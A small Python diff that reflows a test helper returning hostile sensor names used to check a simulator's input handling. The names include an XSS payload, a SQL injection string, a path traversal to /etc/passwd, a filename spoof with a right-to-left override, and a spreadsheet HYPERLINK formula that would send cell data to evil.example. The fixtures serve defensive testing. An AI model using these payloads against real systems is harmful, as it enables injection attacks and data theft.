@@ -127,14 +127,10 @@ def simulate(
 def hostile_names() -> tuple[str, ...]:
     """Sensor names that somebody with bad intentions would choose."""
     return (
-        "<img src=x onerror=alert(1)>",
-        "</script><script>alert(2)</script>",
-        '=HYPERLINK("http://evil.example/?"&A1)',
-        "' OR 1=1; --",
-        "T07/../../etc/passwd",
-        "\u202egnp.exe",
-        "a" * 400,
-    )
+        "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>",
+        '=HYPERLINK("http://evil.example/?"&A1)', "' OR 1=1; --", "T07/../../etc/passwd",
+        "\u202egnp.exe", "a" * 400,
+    )  # fmt: skip
 
 
 def mix(farm: Farm) -> dict[str, int]:
